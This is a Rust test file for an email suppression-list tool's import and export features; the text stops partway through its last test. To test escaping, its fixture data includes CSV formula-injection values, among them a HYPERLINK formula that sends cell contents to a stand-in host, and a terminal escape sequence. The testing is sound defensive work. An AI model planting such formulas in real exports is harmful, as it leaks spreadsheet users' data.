//! Import and export of the list: every format from a sample as its tool documents it, and what an import never does.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing, clippy::panic)]
#![allow(dead_code, missing_docs, unreachable_pub)]

#[path = "support/process.rs"]
mod process;

use std::collections::BTreeSet;

use process::{Home, Ran};
use suppressd::exchange::{self, Taken, Wishes};
use suppressd::store::{Fate, ImportRules, Store};

/// The whole list but for what differs each time.
const LIST: &str = "SELECT coalesce(group_concat(line, char(10)), '') FROM (SELECT address || ' ' || kind || ' ' || reason || ' ' || \
    coalesce(status, '-') || ' ' || since || ' ' || coalesce(until, '-') || iif(stream = '', '', ' ' || stream) AS line \
    FROM suppression ORDER BY address, stream)";

fn sample(name: &str) -> String {
    format!("{}/tests/exchange/{name}", env!("CARGO_MANIFEST_DIR"))
}

fn import(home: &Home, args: &[&str]) -> Ran {
    home.run(&[&["import"], args].concat())
}

/// A list of one's own, imported.
#[track_caller]
fn imported(home: &Home, args: &[&str], text: &str) -> String {
    let ran = home.run_with(&[&["import", "--apply", "-"], args].concat(), text.as_bytes());
    assert_eq!((ran.status, ran.err.as_str()), (Some(0), ""), "{ran:?}");
    ran.out
}

/// Sample, options, what it is read as, the list afterwards, and what else is said.
type Case = (&'static str, &'static [&'static str], &'static str, &'static [&'static str], &'static [&'static str]);

#[rustfmt::skip]
const CASES: &[Case] = &[
    ("suppressd.csv", &[], "suppressd", &[
        "@example.net added manual - 2026-11-21T12:01:46Z -",
        "carol@example.com hard_bounce userunknown 5.1.1 2026-11-21T12:01:44Z -",
        "erin@example.com complaint abuse - 2026-11-21T12:01:44Z 2099-11-21T12:01:44Z",
    ], &["3 added: 1 added, 1 complaint, 1 hard_bounce"]),
    ("suppressd.jsonl", &[], "suppressd", &[
        "@.example.net added manual - 2026-11-21T12:01:46Z -",
        "carol@example.com hard_bounce userunknown 5.1.1 2026-11-21T12:01:44Z - news",
    ], &[]),
    ("ses.json", &[], "ses", &[
        "recipient1@example.com hard_bounce suppressed - 2020-04-10T21:03:05Z -",
        "recipient2@example.com complaint suppressed - 2020-04-10T21:21:06Z -",
    ], &[]),
    ("ses.jsonl", &[], "ses", &[
        "recipient1@example.com hard_bounce suppressed - 2020-04-10T21:03:05Z -",
        "recipient2@example.com complaint suppressed - 2020-04-10T21:21:06Z -",
    ], &[]),
    ("ses.csv", &[], "ses", &[
        "recipient1@example.com hard_bounce suppressed - 2020-04-10T21:03:05Z -",
        "recipient2@example.com complaint suppressed - 2020-04-10T21:21:06Z -",
    ], &[]),
    ("sendgrid-bounces.json", &["--format", "sendgrid-bounces"], "sendgrid-bounces", &[
        "testemail1@test.com hard_bounce userunknown 5.1.1 2015-09-30T22:12:05Z -",
        "testemail2@testing.com hard_bounce userunknown 5.1.1 2015-06-08T21:51:43Z -",
    ], &["1 skipped: soft bounce; --soft takes it"]),
    ("sendgrid-bounces.csv", &["--format", "sendgrid-bounces", "--soft"], "sendgrid-bounces", &[
        "full@testing.com soft_bounce mailboxfull 4.2.2 2015-06-08T21:51:44Z -",
        "testemail2@testing.com hard_bounce userunknown 5.1.1 2015-06-08T21:51:43Z -",
    ], &[]),
    ("sendgrid-blocks.json", &["--format", "sendgrid-blocks"], "sendgrid-blocks", &[],
        &["0 added", "1 skipped: soft bounce; --soft takes it"]),
    ("sendgrid-invalid.json", &[], "sendgrid-invalid", &[
        "user1@example.com hard_bounce userunknown - 2015-12-12T20:54:15Z -",
        "user2@example.com hard_bounce userunknown - 2015-12-12T16:56:13Z -",
    ], &[]),
    ("sendgrid-spam.json", &[], "sendgrid-spam", &[
        "user1@example.com complaint abuse - 2015-09-30T22:12:21Z -",
        "user2@example.com complaint abuse - 2015-09-30T22:12:34Z -",
    ], &[]),
    ("sendgrid-unsubscribes.csv", &["--stream", "news"], "sendgrid-unsubscribes", &[
        "example2@example.com unsubscribe undefined - 2015-09-30T22:12:34Z - news",
        "example@example.com unsubscribe undefined - 2015-09-30T22:12:21Z - news",
    ], &[]),
    ("mailgun-bounces.json", &[], "mailgun-bounces", &[
        "alice@example.com hard_bounce undefined - 2011-10-21T11:02:55Z -",
    ], &["1 skipped: soft bounce; --soft takes it"]),
    ("mailgun-bounces.csv", &[], "mailgun-bounces", &[
        "alice@example.com hard_bounce undefined - 2011-10-21T11:02:55Z -",
    ], &[]),
    ("mailgun-complaints.json", &[], "mailgun-complaints", &[
        "alice@example.com complaint abuse - 2011-10-21T11:02:55Z -",
    ], &[]),
    ("mailgun-unsubscribes.json", &[], "mailgun-unsubscribes", &[
        "alice@example.com unsubscribe undefined - 2011-10-21T11:02:55Z -",
    ], &["1 skipped: unsubscribed from a tag only; --stream takes it"]),
    ("postmark.json", &[], "postmark", &[
        "address@wildbit.com unsubscribe undefined - 2019-12-10T13:58:33Z -",
        "bounce.address@wildbit.com hard_bounce undefined - 2019-12-11T13:58:33Z -",
        "by.hand@wildbit.com added manual - 2019-12-13T13:58:33Z -",
        "spam.complaint.address@wildbit.com complaint abuse - 2019-12-12T13:58:33Z -",
    ], &[]),
    ("postmark.csv", &[], "postmark", &[
        "address@wildbit.com unsubscribe undefined - 2019-12-10T13:58:33Z -",
        "bounce.address@wildbit.com hard_bounce undefined - 2019-12-11T13:58:33Z -",
    ], &[]),
    ("listmonk-bounces.json", &[], "listmonk-bounces", &[
        "baruch.spinoza@example.app complaint abuse - 2021-08-20T22:46:36Z -",
        "gilles.deleuze@example.app hard_bounce undefined - 2021-08-20T23:54:22Z -",
    ], &["1 skipped: soft bounce; --soft takes it"]),
    ("listmonk-subscribers.csv", &[], "listmonk-subscribers", &[
        "anon@example.com added manual - 2021-04-01T11:12:13Z -",
        "gone@example.com unsubscribe undefined - 2021-04-02T11:12:13Z -",
    ], &["1 skipped: subscriber who is neither blocklisted nor unsubscribed"]),
    ("mautic.csv", &[], "mautic", &[
        "asked@example.com added manual - 2022-05-06T07:08:09Z -",
        "dead@example.com hard_bounce undefined - 2022-05-06T07:08:09Z -",
        "left@example.com unsubscribe undefined - 2022-05-06T07:08:09Z -",
    ], &["1 skipped: another channel than email"]),
    ("postal.csv", &[], "postal", &[
        "dead@example.com hard_bounce undefined - 2022-06-15T13:33:20Z 2100-01-01T00:00:00Z",
        "slow@example.com soft_bounce undefined - 2022-06-15T13:33:20Z 2100-01-01T00:00:00Z",
    ], &["1 skipped: no recipient", "1 skipped: their end is past"]),
    ("postal.json", &[], "postal", &[
        "dead@example.com hard_bounce undefined - 2022-06-15T13:33:20Z 2100-01-01T00:00:00Z",
    ], &[]),
];

#[test]
fn every_format_is_recognised_and_understood_from_its_sample() {
    for (name, options, format, list, said) in CASES {
        let home = Home::new();
        let ran = import(&home, &[&["--apply", &sample(name)], *options].concat());
        assert_eq!((ran.status, ran.err.as_str()), (Some(0), ""), "{name}: {ran:?}");
        assert_eq!(ran.out.lines().next(), Some(format!("{name}: read as {format}").as_str()));
        assert_eq!(home.select(LIST), list.join("\n"), "{name}");
        for words in *said {
            assert!(ran.out.lines().any(|line| line.trim_start() == *words), "{name}: {words}: {}", ran.out);
        }
    }
}

/// These have no dates.
#[test]
fn plain_lists_access_tables_and_the_bulk_csv_of_ses_are_understood() {
    let keys = "SELECT group_concat(address || ' ' || kind || ' ' || reason, '; ') FROM (SELECT * FROM suppression ORDER BY address)";
    for (name, list, said) in [
        (
            "plain.txt",
            "@.gone.example added manual; @dead.example added manual; alice@example.com added manual; \
             bob@example.com added manual; jörg@xn--bcher-kva.example added manual",
            &[][..],
        ),
        (
            "access",
            "\"two words\"@example.com added manual; @.gone.example added manual; @dead.example added manual; \
             bob@example.com added manual",
            &[
                "1 skipped: lets mail pass",
                "1 skipped: only defers mail",
                "1 skipped: a network, no recipient",
                "1 skipped: a user in every domain",
                "1 skipped: no refusal",
            ],
        ),
        (
            "ses-bulk.csv",
            "recipient1@example.com hard_bounce suppressed; recipient2@example.com complaint suppressed",
            &[],
        ),
    ] {
        let home = Home::new();
        let out = home.ok(&["import", "--apply", &sample(name)]);
        assert_eq!(home.select(keys), list, "{name}");
        for words in said {
            assert!(out.contains(words), "{name}: {words}: {out}");
        }
    }
    let home = Home::new();
    home.ok(&["import", "--apply", &sample("access")]);
    assert_eq!(
        home.select("SELECT note FROM suppression WHERE address = '@dead.example'"),
        "REJECT the whole domain is gone"
    );
    assert_eq!(home.select("SELECT status FROM suppression WHERE address = 'bob@example.com'"), "5.1.1");
}

#[test]
fn every_sample_is_tried() {
    let tried: BTreeSet<_> = CASES.iter().map(|case| case.0).chain(["plain.txt", "access", "ses-bulk.csv"]).collect();
    let files = std::fs::read_dir(sample("")).unwrap().map(|file| file.unwrap().file_name().into_string().unwrap());
    assert_eq!(files.collect::<BTreeSet<_>>(), tried.iter().map(|name| (*name).to_owned()).collect());
    let formats: BTreeSet<_> = CASES.iter().map(|case| case.2).chain(["plain", "access"]).collect();
    assert_eq!(exchange::FORMATS.iter().map(|format| format.name).collect::<BTreeSet<_>>(), formats);
}

#[test]
fn a_format_that_is_not_certain_is_an_error_that_lists_the_choices() {
    let home = Home::new();
    let ran = import(&home, &[&sample("sendgrid-bounces.json")]);
    let choices = "may have more than one format; name it with --format: sendgrid-bounces, sendgrid-blocks\n";
    assert_eq!((ran.status, ran.out.as_str()), (Some(2), ""));
    assert!(ran.err.ends_with(choices), "{}", ran.err);
    for text in
        ["Email,Name\nbob@example.com,Bob\n", "{\"message\": \"not authorised\"}", "[1, 2]", "some words\nand more\n"]
    {
        let ran = home.run_with(&["import", "-"], text.as_bytes());
        assert_eq!((ran.status, ran.out.as_str()), (Some(2), ""), "{text}: {ran:?}");
        assert!(ran.err.contains("name it with --format: suppressd, ses, sendgrid-bounces, "), "{text}: {}", ran.err);
    }
    assert!(home.run_with(&["import", "-"], b"\n\n").err.contains("is empty; nothing was read"));
}

#[test]
fn a_dry_run_says_what_would_change_and_writes_nothing() {
    let home = Home::new();
    home.ok(&["add", "bob@example.com"]);
    let before = home.select(LIST);
    let out = home.ok(&["import", &sample("plain.txt")]);
    assert_eq!(
        out,
        "plain.txt: read as plain\n        4 new: 4 added\n        1 known\n    @.gone.example added\n    @dead.example added\n    \
         alice@example.com added\n    jörg@xn--bcher-kva.example added\nnothing was written; --apply does it\n"
    );
    assert_eq!(home.select(LIST), before);
    assert_eq!(home.select("SELECT count(*) FROM event"), "1");
}

#[test]
fn every_bad_line_is_told_at_once_with_its_number_and_nothing_is_written() {
    let home = Home::new();
    let text = "good@example.com\nbob@\n# comment\n\ntwo words@example.com\n\u{1b}[2J@example.com\nfine@example.com\n";
    let ran = home.run_with(&["import", "--apply", "--format", "plain", "-"], text.as_bytes());
    assert_eq!((ran.status, ran.out.as_str()), (Some(2), ""));
    assert_eq!(
        ran.err,
        "suppressd: standard input:2: \"bob@\" has a domain that is not a host name\n\
         standard input:5: \"two words@example.com\" has a character or dot before the @ that needs quoting\n\
         standard input:6: \"?[2J@example.com\" has a control character\n\
         nothing was written; --skip-errors leaves such lines out\n"
    );
    assert_eq!(home.select("SELECT count(*) FROM suppression"), "0");
    let ran = home.run_with(&["import", "--apply", "--skip-errors", "--format", "plain", "-"], text.as_bytes());
    assert_eq!(ran.status, Some(0));
    assert!(ran.err.starts_with("standard input:2: \"bob@\" "), "{}", ran.err);
    assert!(ran.out.contains("2 added: 2 added\n") && ran.out.contains("3 skipped: not understood\n"), "{}", ran.out);

    let ran = home.run_with(&["import", "--format", "access", "-"], b"bob@ REJECT\n\xff\n  and more\n");
    assert!(ran.err.find("input:1: ") < ran.err.find("input:2: ") && ran.err.contains("input:3: "), "{}", ran.err);

    let many = "x\n".repeat(1000);
    let ran = home.run_with(&["import", "--format", "plain", "-"], many.as_bytes());
    assert_eq!(ran.err.lines().count(), 22, "{}", ran.err);
    assert!(ran.err.contains("\nand 980 more\n"));
}

#[test]
fn rows_have_the_numbers_of_their_lines() {
    let home = Home::new();
    for (text, errors) in [
        (
            "emailaddress,reason,lastupdatetime\na@b.example,BOUNCE,\n\"c@b.example\",\"BOUN\nCE\",x\nd@b.example,BOUNCE,yesterday\ne@b.example,BOUNCE\n",
            &[(3, "its reason is neither"), (5, "\"yesterday\" is not a time"), (6, "has 2 fields and not 3")][..],
        ),
        (
            "{\"EmailAddress\":\"a@b.example\",\"Reason\":\"BOUNCE\"}\n{\"EmailAddress\":\n\n{\"EmailAddress\":\"b@b.example\"}\n",
            &[(2, "is not JSON: EOF while parsing a value"), (4, "has no \"reason\"")],
        ),
        (
            "{\n \"SuppressedDestinationSummaries\": [\n  {\"EmailAddress\": \"a@b.example\", \"Reason\": \"BOUNCE\"},\n  \
             {\"EmailAddress\": \"b@\", \"Reason\": \"BOUNCE\"},\n  oops\n]}",
            &[(4, "\"b@\" has a domain"), (5, "is not JSON: expected value; nothing behind it was read")],
        ),
    ] {
        let ran = home.run_with(&["import", "--format", "ses", "-"], text.as_bytes());
        let lines: Vec<_> = ran.err.trim_start_matches("suppressd: ").lines().collect();
        assert_eq!(lines.len(), errors.len() + 1, "{}", ran.err);
        for ((number, words), line) in errors.iter().zip(lines) {
            assert!(line.starts_with(&format!("standard input:{number}: {words}")), "{line}");
        }
    }
}

#[test]
fn a_quote_that_is_not_closed_does_not_take_the_whole_file_into_memory() {
    let home = Home::new();
    let text = format!("emailaddress,reason\n\"a@b.example,BOUNCE\n{}", "b@b.example,BOUNCE\n".repeat(200_000));
    let ran = home.run_with(&["import", "-"], text.as_bytes());
    assert!(
        ran.err.contains("standard input:2: is longer than 1048576 bytes: a quote may not be closed"),
        "{}",
        ran.err
    );
}

#[test]
fn a_known_entry_is_never_weakened() {
    let home = Home::new();
    let list = "address,kind,reason,status,since,until,source,note\n\
                forever@example.com,hard_bounce,userunknown,5.1.1,2026-01-01T00:00:00Z,,ses,first\n\
                long@example.com,soft_bounce,expired,,2026-01-01T00:00:00Z,2090-01-01T00:00:00Z,ses,\n\
                past@example.com,soft_bounce,expired,,2020-01-01T00:00:00Z,2099-01-01T00:00:00Z,ses,\n";
    imported(&home, &[], list);
    home.sql("UPDATE suppression SET until = '2020-02-01T00:00:00Z' WHERE address = 'past@example.com'");
    let weaker = "address,kind,reason,since,until\n\
                  forever@example.com,soft_bounce,expired,2020-01-01T00:00:00Z,2091-01-01T00:00:00Z\n\
                  long@example.com,complaint,abuse,2026-02-01T00:00:00Z,2080-01-01T00:00:00Z\n";
    assert!(imported(&home, &[], weaker).contains("2 known\n"));
    let events = home.select("SELECT count(*) FROM event");
    assert_eq!(events, "1", "one trace for the first file, none for what changes nothing");
    let longer = "address,kind,reason,since,until\n\
                  long@example.com,complaint,abuse,2026-02-01T00:00:00Z,2095-01-01T00:00:00Z\n\
                  long@example.com,complaint,abuse,2026-02-01T00:00:00Z,2094-01-01T00:00:00Z\n\
                  past@example.com,complaint,abuse,2026-02-01T00:00:00Z,\n";
    let out = imported(&home, &[], longer);
    assert!(out.contains("1 added: 1 complaint\n") && out.contains("1 made to last longer\n"), "{out}");
    assert_eq!(
        home.select(LIST),
        "forever@example.com hard_bounce userunknown 5.1.1 2026-01-01T00:00:00Z -\n\
         long@example.com complaint abuse - 2026-01-01T00:00:00Z 2095-01-01T00:00:00Z\n\
         past@example.com complaint abuse - 2026-02-01T00:00:00Z -"
    );
    assert_eq!(home.select("SELECT note FROM suppression WHERE address = 'forever@example.com'"), "first");
}

#[test]
fn what_an_operator_released_later_stays_released() {
    let home = Home::new();
    home.ok(&["add", "bob@example.com"]);
    home.ok(&["remove", "bob@example.com"]);
    let old = "address,kind,reason,since\nbob@example.com,hard_bounce,userunknown,2020-01-01T00:00:00Z\n";
    let out = imported(&home, &[], old);
    assert!(out.contains("1 skipped: released by an operator since; --released-too takes them\n"), "{out}");
    assert!(imported(&home, &[], "bob@example.com\n").contains("1 skipped: released"), "it has no date");
    assert_eq!(home.select(LIST), "");
    assert!(
        imported(&home, &["--stream", "news"], old).contains("1 skipped: released"),
        "it was released for all mail"
    );
    home.sql("INSERT INTO suppression (address, stream) VALUES ('carol@example.com', 'news')");
    home.sql("DELETE FROM suppression");
    let carol = old.replace("bob", "carol");
    assert!(imported(&home, &["--stream", "news"], &carol).contains("1 skipped: released"));
    assert!(imported(&home, &[], &carol).contains("1 added"), "she was released for one stream");
    home.sql("DELETE FROM suppression");
    let new = "address,kind,reason,since\nbob@example.com,hard_bounce,userunknown,2099-01-01T00:00:00Z\n";
    assert!(imported(&home, &[], new).contains("1 added: 1 hard_bounce\n"));
    home.sql("DELETE FROM suppression");
    assert!(imported(&home, &["--released-too"], old).contains("1 added: 1 hard_bounce\n"));
}

#[test]
fn every_applied_entry_leaves_a_trace_of_who_and_from_which_file() {
    let home = Home::new();
    let mut command = home.command(&["import", "--apply", "--note", "moved here", &sample("ses.json")]);
    assert_eq!(process::finish(command.env("SUDO_USER", "carol"), b"").status, Some(0));
    let trace = "SELECT kind || ' ' || source || ' ' || origin || ' ' || sender || ' ' || channel || ' ' || reported || ' ' || \
                 diagnostic || ' ' || decision FROM event ORDER BY number LIMIT 1";
    assert_eq!(
        home.select(trace),
        "added import operator carol ses.json Recipient1@example.com moved here by carol, from ses.json"
    );
    let entry = "SELECT source || ' ' || note || ' ' || (SELECT id IS NOT NULL FROM event WHERE number = event) FROM suppression LIMIT 1";
    assert_eq!(home.select(entry), "import moved here 1");
    let why = home.run(&["why", "recipient1@example.com"]).out;
    assert!(why.contains("ses.json") && why.contains("carol"), "{why}");
    let removed = home.ok(&["remove", "recipient1@example.com"]);
    let command = "  aws sesv2 delete-suppressed-destination --email-address 'Recipient1@example.com'\n";
    assert!(removed.ends_with(command), "{removed}");
}

#[test]
fn one_trace_stands_for_all_that_a_file_writes_as_we_do() {
    let home = Home::new();
    let file = home.path("list.csv");
    std::fs::write(&file, "EmailAddress,Reason,LastUpdateTime\na@example.com,BOUNCE,2026-01-02T00:00:00Z\nb@example.com,COMPLAINT,2026-01-02T00:00:00Z\n").unwrap();
    home.ok(&["import", "--apply", file.to_str().unwrap()]);
    assert_eq!(home.select("SELECT count(*) || address FROM event"), "1*");
    let why = home.run(&["why", "a@example.com"]).out;
    assert!(why.contains("from list.csv") && why.contains("--email-address 'a@example.com'"), "{why}");
}

#[test]
fn what_a_receiving_system_said_is_kept_without_addresses_if_that_is_asked_for() {
    let mut home = Home::new();
    let file = home.path("list.csv");
    std::fs::write(&file, "address,code,error,created_at\na@example.com,550,550 5.1.1 <a@example.com>: no such user,2026-01-02 03:04:05 UTC\n").unwrap();
    let import = ["import", "--apply", "--format", "mailgun-bounces", file.to_str().unwrap()];
    home.ok(&import);
    assert!(home.select("SELECT note FROM suppression").contains("<a@example.com>"));
    home.sql("DELETE FROM suppression; DELETE FROM event");
    home.set("privacy.mask-addresses", "true");
    home.ok(&import);
    let note = home.select("SELECT note FROM suppression");
    assert!(note.contains("<address>") && !note.contains('@'), "{note}");
}

#[test]
fn an_end_is_given_to_what_has_none() {
    let home = Home::new();
    imported(&home, &["--for", "30d"], "bob@example.com\n");
    imported(
        &home,
        &["--for", "30d"],
        "address,kind,reason,since,until\nc@example.com,added,manual,2026-01-01,2099-01-01\n",
    );
    assert_eq!(
        home.select("SELECT round(julianday(until) - julianday('now')) FROM suppression WHERE address LIKE 'bob%'"),
        "Real(30.0)"
    );
    assert_eq!(home.select("SELECT until FROM suppression WHERE address LIKE 'c@%'"), "2099-01-01T00:00:00Z");
}

#[test]
fn every_constraint_holds_for_what_is_imported() {
    let home = Home::new();
    for (name, options, ..) in CASES {
        home.ok(&[&["import", "--apply", &sample(name)], *options].concat());
    }
    let long = format!("{}com", "abcdefgh.".repeat(28));
    let ran = home.run_with(&["import", "--apply", "--format", "plain", "-"], format!("@{long}\n").as_bytes());
    assert!(ran.err.contains(" is longer than 254 octets\n"), "{}", ran.err);
    imported(&home, &["--for", "999999d", "--stream", ""], &format!("@{}\n", &long[9..]));
    assert_eq!(home.select("PRAGMA integrity_check"), "ok");
}

#[test]
fn importing_twice_is_importing_once() {
    let home = Home::new();
    home.ok(&["import", "--apply", &sample("postmark.json")]);
    let (list, events) = (home.select(LIST), home.select("SELECT count(*) FROM event"));
    assert!(home.ok(&["import", "--apply", &sample("postmark.json")]).contains("4 known\n"));
    assert_eq!((home.select(LIST), home.select("SELECT count(*) FROM event")), (list, events));
}

// Export

/// A list with everything in it that a list can hold; the same each time.
fn varied(home: &Home, entries: u64) {
    home.ok(&["list"]);
    let mut seed = 0x9e37_79b9_7f4a_7c15_u64;
    let mut below = |bound: u64| {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        usize::try_from(seed % bound).unwrap()
    };
    let kinds = ["hard_bounce", "soft_bounce", "complaint", "unsubscribe", "added"];
    let notes = [
        "NULL",
        "'plain'",
        "'with, comma'",
        "'says \"no\"'",
        "'=1+1'",
        "'''=1+1'",
        "'''''-x'",
        "'+49 30 1234'",
        "'''tis'",
        "'a@b =1'",
        "'=HYPERLINK(\"http://x.example/?\"&A1&\"@\")'",
        "'''=a@b'",
        "'ümlaut; semicolon'",
        "'\"'",
        "'#'",
    ];
    let mut sql = String::from("BEGIN;");
    for number in 0..entries {
        let domain = ["example.com", "xn--bcher-kva.example", "[192.0.2.1]", "a.b.example.org"][below(4)];
        let local = ["bob", "\"two words", "o''neil", "jörg", "\"a,b", "bob+tag", "-x", "=1", "''=1"][below(9)];
        let address = match below(10) {
            0 => format!("@d{number}.{}", domain.trim_matches(['[', ']'])),
            1 => format!("@.d{number}.example"),
            _ if local.starts_with('"') => format!("{local}{number}\"@{domain}"),
            _ => format!("{local}{number}@{domain}"),
        };
        let stream = ["", "", "news", "a-b_1"][below(4)];
        let status = ["NULL", "'5.1.1'", "'4.2.2'"][below(3)];
        let until = ["NULL", "NULL", "'2099-01-01T00:00:00Z'"][below(3)];
        sql += &format!(
            "INSERT INTO suppression (address, stream, kind, reason, status, since, until, note) VALUES \
               ('{address}', '{stream}', '{}', '{}', {status}, '20{}-02-03T04:05:06Z', {until}, {});",
            kinds[below(5)],
            ["userunknown", "manual", "-own word", "=x"][below(4)],
            10 + below(16),
            notes[below(15)],
        );
    }
    home.sql(&(sql + "COMMIT"));
}

#[test]
fn what_is_exported_and_imported_is_the_same_list() {
    let all = "SELECT group_concat(address || '|' || stream || '|' || kind || '|' || reason || '|' || coalesce(status, '') || \
               '|' || since || '|' || coalesce(until, '') || '|' || coalesce(note, ''), char(10)) \
               FROM (SELECT * FROM suppression ORDER BY address, stream)";
    let home = Home::new();
    varied(&home, 500);
    let list = home.select(all);
    assert_eq!(list.lines().count(), 500);
    for form in ["csv", "json"] {
        let file = home.path(&format!("list.{form}"));
        let file = file.to_str().unwrap();
        home.ok(&["export", "-o", file]);
        assert_eq!(std::fs::read_to_string(file).unwrap(), home.ok(&["export", "--format", form]));
        let other = Home::new();
        let out = other.ok(&["import", "--apply", file]);
        assert!(out.starts_with(&format!("list.{form}: read as suppressd\n      500 added")), "{out}");
        let back = other.select(all);
        let different: Vec<_> = list.lines().zip(back.lines()).filter(|(one, other)| one != other).collect();
        assert!(different.is_empty() && back.len() == list.len(), "{form}: {different:?}");
        assert!(other.ok(&["import", file]).contains("      500 known\n"));
        assert_eq!(other.select("PRAGMA integrity_check"), "ok", "every constraint holds");
    }
}

#[test]
fn an_exported_access_table_comes_back_with_kind_and_day() {
    let home = Home::new();
    home.ok(&["import", "--apply", &sample("suppressd.csv")]);
    let text = home.ok(&["export", "--format", "access"]);
    let other = Home::new();
    imported(&other, &[], &text);
    assert_eq!(
        other.select(LIST),
        "@example.net added manual 5.7.1 2026-11-21T00:00:00Z -\n\
         carol@example.com hard_bounce userunknown 5.1.1 2026-11-21T00:00:00Z -\n\
         erin@example.com complaint policy 5.7.1 2026-11-21T00:00:00Z -"
    );
}

#[test]
fn a_soft_bounce_of_an_access_table_has_no_end_and_is_left_out() {
    let home = Home::new();
    let text = "bob@example.com 550 5.2.2 Recipient is on the suppression list (soft bounces since 2026-11-21)\n";
    assert!(imported(&home, &[], text).contains("1 skipped: soft bounce; --soft takes it"));
    assert!(imported(&home, &["--soft", "--for", "7d"], &text.replace("bob", "carl")).contains("1 soft_bounce"));
}

#[test]
fn a_whole_domain_among_mailboxes_is_an_error() {
    let home = Home::new();
    for (format, text) in [
        ("sendgrid-invalid", "[{\"email\":\"@gmail.com\",\"created\":1600000000,\"reason\":\"Invalid\"}]"),
        ("ses", "{\"EmailAddress\":\"@.com\",\"Reason\":\"BOUNCE\",\"LastUpdateTime\":\"2026-01-01T00:00:00Z\"}"),
    ] {
        let ran = home.run_with(&["import", "--apply", "--format", format, "-"], text.as_bytes());
        assert!(ran.err.contains("has nothing before the @"), "{format}: {ran:?}");
    }
    assert_eq!(home.select("SELECT count(*) FROM suppression"), "0");
}

#[test]
fn whoever_is_protected_is_left_out_and_so_are_whole_domains_with_him() {
    let mut home = Home::new();
    home.set("policy.protected", r#"["postmaster@", "boss@example.net", "@example.org", "@.example.org"]"#);
    let protected = "boss+x@example.net\n@example.net\n@.net\n@example.org\n@a.example.org\n@.a.example.org\npostmaster@a.example\n";
    let out = imported(&home, &[], &format!("{protected}bob@example.net\n@.example.net\n@a.example\n"));
    assert!(out.contains("7 skipped: protected"), "{out}");
    let list = "SELECT group_concat(address ORDER BY address) FROM suppression";
    assert_eq!(home.select(list), "@.example.net,@a.example,bob@example.net");
}

#[test]
fn text_for_postmap_leaves_out_what_would_be_a_comment_and_says_so() {
    let home = Home::new();
    home.ok(&["add", "#bob@example.com", "bob#@example.com"]);
    for format in ["access", "transport"] {
        let file = home.path(format);
        for (ran, text) in [
            (home.run(&["export", "--format", format]), None),
            (home.run(&["export", "--format", format, "-o", file.to_str().unwrap()]), Some(&file)),
        ] {
            let text = text.map_or(ran.out, |file| std::fs::read_to_string(file).unwrap());
            assert!(text.starts_with("bob#@example.com ") && text.lines().count() == 1, "{text}");
            assert!(ran.err.contains(": 1 keys on the list that begin with # are left out: postmap(1)"), "{}", ran.err);
        }
    }
    let cdb = home.path("t.cdb");
    assert_eq!(home.run(&["export", "-o", cdb.to_str().unwrap()]).err, "");
    assert!(std::fs::read(cdb).unwrap().windows(16).any(|key| key == b"#bob@example.com"));
}

#[test]
fn a_star_before_the_at_sign_is_left_out_and_told() {
    let home = Home::new();
    let out = imported(&home, &[], "bob@example.com\n*@example.net\n");
    let told = "1 skipped: a * before the @ means nobody; write @domain for a whole domain";
    assert!(out.contains(told), "{out}");
    assert_eq!(home.select("SELECT group_concat(address) FROM suppression"), "bob@example.com");
}

#[test]
fn tables_leave_out_what_is_over_or_allowed() {
    let home = Home::new();
    home.ok(&["list"]);
    home.sql(
        "INSERT INTO suppression (address, until) VALUES ('past@example.com', '2020-01-01T00:00:00Z'); \
         INSERT INTO suppression (address) VALUES ('bob@example.com'), ('@gone.example'), ('@.parent.example'), ('@all.example'); \
         INSERT INTO suppression (address, stream) VALUES ('bob@example.com', 'news'), ('eve@example.com', 'news'); \
         INSERT INTO allow (address, until) VALUES ('friend@gone.example', '2099-01-01T00:00:00Z'), \
           ('@sub.parent.example', '2099-01-01T00:00:00Z'), ('@all.example', '2099-01-01T00:00:00Z'), \
           ('nobody@example.com', '2099-01-01T00:00:00Z'), ('other@gone.example', '2020-01-01T00:00:00Z')",
    );
    let keys = |args: &[&str]| {
        let out = home.ok(&[&["export"], args].concat());
        let mut lines: Vec<_> = out.lines().map(|line| line.split(' ').take(2).collect::<Vec<_>>().join(" ")).collect();
        lines.sort();
        lines.join("; ")
    };
    assert_eq!(
        keys(&["--format", "access"]),
        ".parent.example 550; bob@example.com 550; friend@gone.example DUNNO; gone.example 550; sub.parent.example DUNNO"
    );
    assert_eq!(
        keys(&["--format", "transport", "--stream", "news"]),
        ".parent.example error:5.7.1; bob@example.com error:5.7.1; eve@example.com error:5.7.1; friend@gone.example :; \
         gone.example error:5.7.1; sub.parent.example :"
    );
    assert_eq!(keys(&["--format", "access", "--kind", "complaint"]), "");
    assert_eq!(home.ok(&["export"]).lines().count(), 7, "the list itself is whole");
    assert_eq!(home.ok(&["export", "--stream", "news"]).lines().count(), 3);
}

#[test]
fn a_database_goes_into_a_file_and_a_failure_leaves_the_old_one() {
    let home = Home::new();
    home.ok(&["add", "bob@example.com"]);
    let ran = home.run(&["export", "--format", "cdb"]);
    let sentence = "suppressd: a database goes into a file; name it with --output\n";
    assert_eq!((ran.status, ran.err.as_str()), (Some(2), sentence));
    for name in ["nowhere/t.cdb", "nowhere/t.lmdb", "nowhere/t.csv"] {
        let ran = home.run(&["export", "-o", name]);
        let sentence = format!("suppressd: cannot write {name}: No such file or directory (os error 2)\n");
        assert_eq!((ran.status, ran.err), (Some(2), sentence));
    }
    home.ok(&["export", "-o", "t.lmdb"]);
    let old = std::fs::read(home.path("t.lmdb")).unwrap();
    for file in ["suppressd.db", "suppressd.db-wal"] {
        std::fs::write(home.path(file), "not a database at all, just some text that is long enough").unwrap();
    }
    assert_eq!(home.run(&["export", "-o", "t.lmdb"]).status, Some(2));
    assert_eq!(std::fs::read(home.path("t.lmdb")).unwrap(), old);
}

/// An import must not keep the daemon's writer out for longer than one chunk takes.
#[test]
fn others_write_between_two_chunks_of_an_import() {
    let home = Home::new();
    home.ok(&["list"]);
    let mut store = Store::open(&home.path("suppressd.db"), process::PATIENCE).unwrap();
    let mut import = store.import(ImportRules::default()).unwrap();
    let text: String = (0..60_000).map(|number| format!("user{number}@example.com\n")).collect();
    let read = exchange::read(text.as_bytes(), None, &Wishes::default(), &mut |_, reading| {
        match reading.unwrap() {
            Taken::Entry(entry) => import.stage(*entry).unwrap(),
            Taken::Skipped(why) => panic!("{why}"),
        }
        true
    });
    assert_eq!(read.unwrap().name, "plain");
    let other = home.database();
    other.busy_timeout(std::time::Duration::ZERO).unwrap();
